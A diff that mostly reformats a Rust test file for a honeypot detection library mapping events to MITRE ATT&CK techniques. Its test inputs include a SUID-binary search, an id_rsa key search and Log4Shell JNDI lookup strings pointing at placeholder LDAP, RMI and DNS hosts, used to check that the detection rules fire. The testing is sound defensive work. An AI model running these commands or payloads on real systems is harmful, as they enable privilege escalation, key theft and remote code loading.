@@ -10,7 +10,14 @@ use decnet_ttp::{EvalEvent, Pack, RuleIndex, SourceKind, SuppressReason};
 use serde_json::{Value, json};
 use uuid::Uuid;
 
-fn rule(id: &str, applies: &str, field: &str, pattern: &str, emits: &str, evidence: &str) -> String {
+fn rule(
+    id: &str,
+    applies: &str,
+    field: &str,
+    pattern: &str,
+    emits: &str,
+    evidence: &str,
+) -> String {
     format!(
         "rule_id: {id}\nrule_version: 1\nname: test_{}\ndescription: test rule\nattack_release: enterprise-v18.1\n\
          applies_to: {applies}\nmatch:\n  field: {field}\n  pattern: '{pattern}'\nemits:\n{emits}\nevidence_fields: {evidence}\n",
@@ -25,7 +32,9 @@ fn pack(rules: &[String]) -> Pack {
         std::fs::write(dir.path().join(format!("{id}.yaml")), text).unwrap();
     }
     let today = NaiveDate::from_ymd_opt(2026, 12, 3).unwrap();
-    load_dir_with(dir.path(), Catalogue::bundled(), today).unwrap().pack
+    load_dir_with(dir.path(), Catalogue::bundled(), today)
+        .unwrap()
+        .pack
 }
 
 fn suid_pack() -> Pack {
@@ -62,13 +71,27 @@ fn command(source_id: &str, text: &str) -> EvalEvent {
 }
 
 fn summary(tags: &[decnet_ttp::Tag]) -> Vec<(String, String, f64)> {
-    tags.iter().map(|t| (t.rule_id.to_string(), t.sub_technique_id.as_ref().unwrap_or(&t.technique_id).to_string(), t.confidence)).collect()
+    tags.iter()
+        .map(|t| {
+            (
+                t.rule_id.to_string(),
+                t.sub_technique_id
+                    .as_ref()
+                    .unwrap_or(&t.technique_id)
+                    .to_string(),
+                t.confidence,
+            )
+        })
+        .collect()
 }
 
 #[test]
 fn multi_emit_and_co_fire_in_rule_then_emit_order() {
     let index = RuleIndex::new(&suid_pack());
-    let eval = index.evaluate(&command("cmd_42", "find / -perm -u=s -type f 2>/dev/null"), now());
+    let eval = index.evaluate(
+        &command("cmd_42", "find / -perm -u=s -type f 2>/dev/null"),
+        now(),
+    );
     assert_eq!(
         summary(&eval.tags),
         vec![
@@ -79,7 +102,10 @@ fn multi_emit_and_co_fire_in_rule_then_emit_order() {
     );
     let tag = &eval.tags[1];
     assert_eq!(tag.uuid.to_string(), "4fd57b14-c135-544c-97d9-4fabc1051584");
-    assert_eq!(&*tag.mitre_url, "https://attack.mitre.org/techniques/T1548/001");
+    assert_eq!(
+        &*tag.mitre_url,
+        "https://attack.mitre.org/techniques/T1548/001"
+    );
     assert_eq!(&*tag.tactic, "TA0004");
     assert_eq!(&*tag.attack_release, "enterprise-v18.1");
     assert_eq!(tag.session_id.as_deref(), Some("s1"));
@@ -110,12 +136,28 @@ fn disabled_rules_do_nothing_and_clipped_rules_are_capped() {
     let mut states = StateTable::default();
     states.set("R0015", RuleMode::Disabled);
     let eval = RuleIndex::with_states(&pack, &states).evaluate(&event, now());
-    assert_eq!(summary(&eval.tags), vec![("R0016".into(), "T1083".into(), 0.65)]);
-    assert!(eval.suppressed.is_empty(), "disabled rules produce no suppression");
+    assert_eq!(
+        summary(&eval.tags),
+        vec![("R0016".into(), "T1083".into(), 0.65)]
+    );
+    assert!(
+        eval.suppressed.is_empty(),
+        "disabled rules produce no suppression"
+    );
 
-    states.set("R0015", RuleMode::Clipped { confidence_max: 0.5 });
+    states.set(
+        "R0015",
+        RuleMode::Clipped {
+            confidence_max: 0.5,
+        },
+    );
     let eval = RuleIndex::with_states(&pack, &states).evaluate(&event, now());
-    let r15: Vec<f64> = eval.tags.iter().filter(|t| &*t.rule_id == "R0015").map(|t| t.confidence).collect();
+    let r15: Vec<f64> = eval
+        .tags
+        .iter()
+        .filter(|t| &*t.rule_id == "R0015")
+        .map(|t| t.confidence)
+        .collect();
     assert_eq!(r15, vec![0.5, 0.5]);
 }
 
@@ -123,7 +165,12 @@ fn disabled_rules_do_nothing_and_clipped_rules_are_capped() {
 fn a_ceiling_below_the_floor_shadow_runs_the_rule() {
     let pack = suid_pack();
     let mut states = StateTable::default();
-    states.set("R0016", RuleMode::Clipped { confidence_max: 0.2 });
+    states.set(
+        "R0016",
+        RuleMode::Clipped {
+            confidence_max: 0.2,
+        },
+    );
     let index = RuleIndex::with_states(&pack, &states);
     let eval = index.evaluate(&command("c", "find /home -name id_rsa"), now());
     assert!(eval.tags.is_empty());
@@ -131,9 +178,20 @@ fn a_ceiling_below_the_floor_shadow_runs_the_rule() {
     assert_eq!(eval.suppressed[0].reason, SuppressReason::BelowFloor);
     assert_eq!(eval.suppressed[0].tag.confidence, 0.2);
 
-    states.set("R0016", RuleMode::Clipped { confidence_max: 0.3 });
-    let eval = index.restate(&states).evaluate(&command("c", "find /home -name id_rsa"), now());
-    assert_eq!(summary(&eval.tags), vec![("R0016".into(), "T1083".into(), 0.3)], "exactly the floor is written");
+    states.set(
+        "R0016",
+        RuleMode::Clipped {
+            confidence_max: 0.3,
+        },
+    );
+    let eval = index
+        .restate(&states)
+        .evaluate(&command("c", "find /home -name id_rsa"), now());
+    assert_eq!(
+        summary(&eval.tags),
+        vec![("R0016".into(), "T1083".into(), 0.3)],
+        "exactly the floor is written"
+    );
 }
 
 #[test]
@@ -148,12 +206,19 @@ fn field_lists_fire_once_with_tokens_from_the_first_matching_field() {
     )]);
     let payload = json!({"method": "GET", "raw_url": "/?x=%24%7Bjndi:ldap://198.51.100.7:1389/a%7D",
         "user_agent": "${jndi:rmi://198.51.100.8/x}", "headers": {"x-forwarded-for": "${jndi:dns://x.example}"}});
-    let mut event = EvalEvent::new(SourceKind::HttpRequest, "r1", payload.as_object().unwrap().clone());
+    let mut event = EvalEvent::new(
+        SourceKind::HttpRequest,
+        "r1",
+        payload.as_object().unwrap().clone(),
+    );
     event.attacker_uuid = Some(Uuid::nil());
     let eval = RuleIndex::new(&pack).evaluate(&event, now());
     assert_eq!(eval.tags.len(), 1);
     let evidence = serde_json::to_value(&eval.tags[0].evidence).unwrap();
-    assert_eq!(evidence, json!({"request_path": "/", "matched_tokens": ["${jndi:ldap://"]}));
+    assert_eq!(
+        evidence,
+        json!({"request_path": "/", "matched_tokens": ["${jndi:ldap://"]})
+    );
 }
 
 #[test]
@@ -171,7 +236,11 @@ fn regex_set_and_sequential_paths_agree() {
     ];
     for (i, text) in commands.iter().enumerate() {
         let event = command(&format!("c{i}"), text);
-        assert_eq!(index.evaluate(&event, now()), index.evaluate_sequential(&event, now()), "{text}");
+        assert_eq!(
+            index.evaluate(&event, now()),
+            index.evaluate_sequential(&event, now()),
+            "{text}"
+        );
     }
 }
 
@@ -193,7 +262,13 @@ fn the_rate_limit_withholds_tags_past_the_budget_per_anchor_and_window() {
     for i in 0..3 {
         let mut eval = index.evaluate(&command(&format!("c{i}"), "find /home -name x"), now());
         limiter.apply(&mut eval, now(), limit, mode);
-        kept.push((eval.tags.len(), eval.suppressed.iter().filter(|s| s.reason == SuppressReason::RateLimited).count()));
+        kept.push((
+            eval.tags.len(),
+            eval.suppressed
+                .iter()
+                .filter(|s| s.reason == SuppressReason::RateLimited)
+                .count(),
+        ));
     }
     assert_eq!(kept, vec![(1, 0), (1, 0), (0, 1)]);
     // A new window admits again, and old windows are forgotten.
@@ -209,11 +284,30 @@ fn tags_serialise_with_the_spec_fields() {
     let index = RuleIndex::new(&suid_pack());
     let eval = index.evaluate(&command("cmd_42", "find /home -name id_rsa"), now());
     let value: Value = serde_json::to_value(&eval.tags[0]).unwrap();
-    let keys: Vec<&str> = value.as_object().unwrap().keys().map(String::as_str).collect();
+    let keys: Vec<&str> = value
+        .as_object()
+        .unwrap()
+        .keys()
+        .map(String::as_str)
+        .collect();
     let mut want = [
-            "uuid", "source_kind", "source_id", "attacker_uuid", "identity_uuid", "session_id", "decky_id", "tactic",
-            "technique_id", "sub_technique_id", "confidence", "rule_id", "rule_version", "evidence", "attack_release",
-            "mitre_url", "created_at",
+        "uuid",
+        "source_kind",
+        "source_id",
+        "attacker_uuid",
+        "identity_uuid",
+        "session_id",
+        "decky_id",
+        "tactic",
+        "technique_id",
+        "sub_technique_id",
+        "confidence",
+        "rule_id",
+        "rule_version",
+        "evidence",
+        "attack_release",
+        "mitre_url",
+        "created_at",
     ];
     want.sort_unstable();
     assert_eq!(keys, want);
